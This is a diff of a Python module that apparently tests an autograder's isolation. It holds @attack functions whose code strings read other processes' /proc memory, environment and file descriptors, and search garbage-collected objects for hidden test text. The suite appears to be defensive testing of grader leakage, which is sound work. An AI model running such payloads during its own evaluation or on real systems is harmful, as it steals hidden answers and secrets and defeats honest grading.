@@ -114,7 +114,7 @@ def reading_processes(target):
     """Memory, arguments and files of the grader, by /proc."""
     body = """
 import os
-for pid in ("self", os.getppid(), 1, *range(os.getpid() - 50, os.getpid())):
+for pid in (os.getppid(), 1, *range(os.getpid() - 50, os.getpid())):
     for name in ("mem", "maps", "environ", "cmdline", "fd", "root", "cwd"):
         place = f"/proc/{pid}/{name}"
         for read in (lambda p: open(p, "rb").read(10), os.listdir,
@@ -129,24 +129,21 @@ for pid in ("self", os.getppid(), 1, *range(os.getpid() - 50, os.getpid())):
 
 @attack
 def searching_the_memory(target):
-    """Hidden tests and solutions among all objects of the process."""
-    body = """
-import gc, sys
-words = ["HIDDEN" + " TESTS", "BEGIN" + " SOLUTION", "checks.ans" + "wer("]
-seen = [o for o in gc.get_objects()]
-for thing in list(seen):
-    try:
-        seen += [v for v in gc.get_referents(thing) if type(v) is str]
-    except Exception:
-        pass
-mine = get_ipython().user_ns["In"] if "In" in get_ipython().user_ns else []
-for thing in seen:
-    if type(thing) is str and any(w in thing for w in words):
-        if "Cells of an assignment" not in thing and thing not in mine:
-            if "course_lib" in thing and "see=" in thing:
-                found = thing
+    """Hidden tests among all objects of the process."""
+    before = """
+import gc
+word, stolen = "HIDDEN" + " TESTS", None
+for thing in gc.get_objects():
+    inside = ()
+    if type(thing) is dict:
+        inside = list(thing.values())
+    elif type(thing) in (list, tuple):
+        inside = list(thing)
+    for text in inside:
+        if type(text) is str and word in text:
+            stolen = text
 """
-    return steals(target, body)
+    return [before, *steals(target, "found = stolen")]
 
 
 @attack
